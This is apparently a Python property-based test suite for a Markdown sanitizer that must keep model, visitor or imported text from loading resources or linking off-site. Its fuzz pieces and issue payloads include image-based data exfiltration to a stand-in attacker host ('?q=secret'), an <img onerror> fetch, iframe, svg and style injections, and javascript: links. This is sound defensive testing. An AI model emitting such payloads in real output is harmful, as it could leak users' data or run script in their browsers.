"""Property-based proof of the one rendering path (`ragarena.answering.safe_markdown`): whatever text a
model, a visitor or an imported file holds, what the page draws from it loads nothing and links
only to the operator's hosts.

Hypothesis combines the pieces that broke pattern filters (code spans and fences, ```x``` openers,
blank lines, inline and reference images and links, autolinks, bare addresses, e-mails, entities,
raw HTML, SVG, data URIs) into thousands of texts, derandomized so every run tries the same ones.
Each output is read again the most permissive way a renderer could read it (markdown-it with raw
HTML on, linkify on, tables and strikethrough: GFM as Gradio's ``marked`` reads it) and must hold
no image, no HTML, no link off the allow-list, and no ``$$`` (Gradio's KaTeX cut-out).
"""

from __future__ import annotations

import re

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from ragarena.answering.safe_markdown import allowed_link, html_text, literal, plain, safe

HOSTS = ("biblio.example",)
ATTACKER = "http://127.0.0.1:9"
# The most a renderer could read: raw HTML, bare addresses and e-mails as links, GFM tables.
PERMISSIVE = MarkdownIt("gfm-like", {"html": True, "linkify": True})
# Bare addresses as Gradio's marked (GFM) links them: http://, https://, ftp:// and www. (any case), and
# e-mails; linkify-it also links protocol-relative //host and mailto:, kept (stricter than marked). Its
# "fuzzy" links of a bare domain (evil.com, biblio.es) are off: marked never links those, and with them
# on the check would demand escaping every dot between two words of ordinary prose. In their place a
# "www." schema links what marked's www. rule links (any host after it).
PERMISSIVE.linkify.set({"fuzzy_link": False, "fuzzy_email": True})
PERMISSIVE.linkify.add("www.", {"validate": re.compile(r"^[A-Za-z0-9-]+")})
COMMONMARK = MarkdownIt("commonmark")

PIECES = [
    "`",
    "``",
    "```",
    "````",
    "~~~",
    "```x```",
    "```py",
    "~~~~",
    "```mermaid",
    "\n",
    "\n\n",
    "  \n",
    "    ",
    "> ",
    "- ",
    "1. ",
    "# ",
    "|",
    "| a | b |\n|---|---|\n",
    "---",
    "***",
    "*",
    "_",
    "**",
    "\\",
    "$$",
    "$",
    "![a](http://127.0.0.1:9/i.png?q=secret)",
    "![a][1]",
    "![a]",
    "[a][1]",
    "[a]",
    "[1]: http://127.0.0.1:9/r.png",
    "\n[1]: <http://127.0.0.1:9/ref>\n",
    "[x](http://127.0.0.1:9/l)",
    "[ok](https://biblio.example/horario)",
    "[ok](https://biblio.example.evil.example/)",
    "[x](javascript:alert(1))",
    "[x](//127.0.0.1:9/p)",
    "<http://127.0.0.1:9/auto>",
    "<mailto:a@evil.example>",
    "<a@evil.example>",
    "http://127.0.0.1:9/bare",
    "www.evil.example",
    "a@evil.example",
    "&#60;img src=http://127.0.0.1:9/e.png&#62;",
    "&lt;",
    "&amp;lt;",
    "&#x3C;",
    "&#10;",
    "&#32;",
    "<img src=http://127.0.0.1:9/h.png>",
    '<img src="x" onerror="fetch(1)">',
    "<svg><image href='http://127.0.0.1:9/s.svg'/></svg>",
    "<iframe src=http://127.0.0.1:9/f>",
    "<a href=x>",
    "</a>",
    "<video poster=http://127.0.0.1:9/v.png>",
    "<source src=http://127.0.0.1:9/a.mp3>",
    "<link rel=stylesheet href=http://127.0.0.1:9/c.css>",
    "<style>p{background:url(http://127.0.0.1:9/u)}</style>",
    "<!-- c -->",
    "data:image/svg+xml;base64,PHN2Zz4=",
    "![d](data:image/png;base64,AAAA)",
    "[s](data:text/html,<script>)",
    "%%%LATEX_BLOCK_0%%%",
    "\\`",
    "\\<",
    "\\\\",
    "\t",
    "x",
    "texto ",
    "ñ",
    "]",
    "[",
    "(",
    ")",
    "!",
    ":",
    "<",
    ">",
    '"',
    "'",
    # Halves that only make something next to each other (the escaping is minimal, so where text meets
    # text from an image's alt or a link's label matters): www + ., http: + / + /, ! + [, 1 + ".".
    "![](x)",
    "&#33;",
    "www",
    "WWW",
    "http:",
    "ftp:",
    "/",
    ".",
    "1",
    "=",
    "#",
    "-",
    "+",
    ":-",
    "@",
]
# The issue's three payloads, literally.
ISSUE_PAYLOADS = [
    f"`x\n\n![y]({ATTACKER}/p5.png?q=secret)\n\n`",
    f"```x```\n![i]({ATTACKER}/p6.png?q=secret)\n```",
    f'`x\n\n<img src="{ATTACKER}/p7.png">\n\n`',
]
texts = st.lists(st.sampled_from(PIECES) | st.sampled_from(ISSUE_PAYLOADS) | st.text(max_size=6), max_size=24).map(
    "".join
)


def _tokens(tokens):
    for token in tokens:
        yield token
        yield from _tokens(token.children or [])


def problems(shown: str) -> list[str]:
    """What in `shown` could load a resource or be a live link off the allow-list, read permissively."""
    found = ["$$ (KaTeX cut-out)"] if "$$" in shown else []
    for token in _tokens(PERMISSIVE.parse(shown)):
        if token.type in ("image", "html_block", "html_inline"):
            found.append(f"{token.type}: {token.content!r}")
        elif token.type == "link_open" and not allowed_link(str(token.attrs.get("href", "")), HOSTS):
            found.append(f"link to {token.attrs.get('href')!r}")
        elif token.type == "fence" and token.info.strip().lower().startswith("mermaid"):
            found.append("mermaid diagram")
    page = PERMISSIVE.render(shown)
    found += [
        f"element {tag!r}"
        for tag in re.findall(
            r"<(img|svg|iframe|video|audio|source|link|style|object|"
            r"embed|image|script)\b",
            page,
        )
    ]
    return found


def test_the_issue_payloads_and_a_permissive_reader():
    for payload in ISSUE_PAYLOADS:
        assert problems(payload), "the check itself must see the attack in the raw payload"
        assert problems(safe(payload, hosts=HOSTS)) == []
    assert problems("[ok](https://biblio.example/x)") == []  # an allowed link is no problem


def test_text_that_meets_across_an_image_or_a_link_makes_nothing():
    """Escaping is minimal, so two pieces of text that meet (an alt text, a link shown as its words) must
    not make together the autolink or image that neither makes alone."""
    for text, seen in [
        ("www![](x).evil.example", "www.evil.example"),
        ("www![.evil.example](x)", "www.evil.example"),
        ("http:![](x)/![](x)/127.0.0.1:9/p", "http://127.0.0.1:9/p"),
        ("\\![ok](https://biblio.example/a)", "!ok"),
        ("a&#33;[ok](https://biblio.example/a)", "a!ok"),
    ]:
        shown = safe(text, hosts=HOSTS)
        assert problems(shown) == [], (text, shown)
        assert re.sub(r"<[^>]+>", "", COMMONMARK.render(shown)).strip() == seen, (text, shown)


def test_no_generated_text_renders_as_a_resource_or_a_foreign_link():
    tried = []

    @settings(
        max_examples=3000,
        derandomize=True,
        deadline=None,
        database=None,
        suppress_health_check=[HealthCheck.too_slow, HealthCheck.filter_too_much],
    )
    @given(texts)
    def check(text):
        tried.append(text)
        shown = safe(text, hosts=HOSTS)
        assert problems(shown) == [], (text, shown)
        # The page redraws the same from what it holds, and the history it gives back is safe again.
        assert COMMONMARK.render(safe(shown, hosts=HOSTS)) == COMMONMARK.render(shown), (text, shown)
        assert problems(safe(plain(shown, hosts=HOSTS), hosts=HOSTS)) == []

    check()
    print(f"\nrender safety: {len(tried)} generated texts through safe(), none drew an image, HTML or a foreign link")
    assert len(tried) >= 2500  # the cases really ran (Hypothesis stops early only on an exhausted space)


def test_a_literal_shows_as_typed_and_nothing_else():
    tried = []

    @settings(
        max_examples=1000, derandomize=True, deadline=None, database=None, suppress_health_check=[HealthCheck.too_slow]
    )
    @given(texts)
    def check(text):
        tried.append(text)
        tokens = list(_tokens(PERMISSIVE.parse(literal(text))))
        assert {t.type for t in tokens} <= {"paragraph_open", "inline", "paragraph_close", "text"}, text
        shown = "".join(t.content for t in tokens if t.type == "text")
        # As typed, less the whitespace at its ends that any Markdown paragraph trims.
        assert shown == re.sub(r"[\r\n\t\f\v]", " ", text).strip().replace("\0", "\ufffd"), text
        assert not set("<>\"'") & set(html_text(text))

    check()
    print(f"\nrender safety: {len(tried)} generated texts through literal()")
    assert len(tried) >= 800
